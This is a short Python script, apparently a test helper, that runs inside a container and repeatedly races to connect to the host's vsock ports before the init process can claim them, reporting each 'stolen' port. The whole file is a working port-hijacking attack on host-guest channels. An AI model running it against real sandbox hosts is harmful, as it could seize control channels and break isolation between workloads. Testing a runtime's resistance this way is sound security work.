# SPDX-License-Identifier: Apache-2.0
"""thief.py - in a container: call the host on the first ports of further processes, again and again, before the init does.

Says "up" once, and "stolen PORT" when the host has taken it for the init.
"""
import select
import socket

CID_HOST, FIRST_PORT, GROUPS, PORTS = 2, 4096, 12, 4

kept = []
print("up", flush=True)
while True:
    callers = []
    for port in range(FIRST_PORT, FIRST_PORT + GROUPS * PORTS, PORTS):
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((CID_HOST, port))
        callers.append((port, s))
    for port, s in callers:
        select.select([], [s], [], 2)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            print(f"stolen {port}", flush=True)
            kept.append(s)
        else:
            s.close()
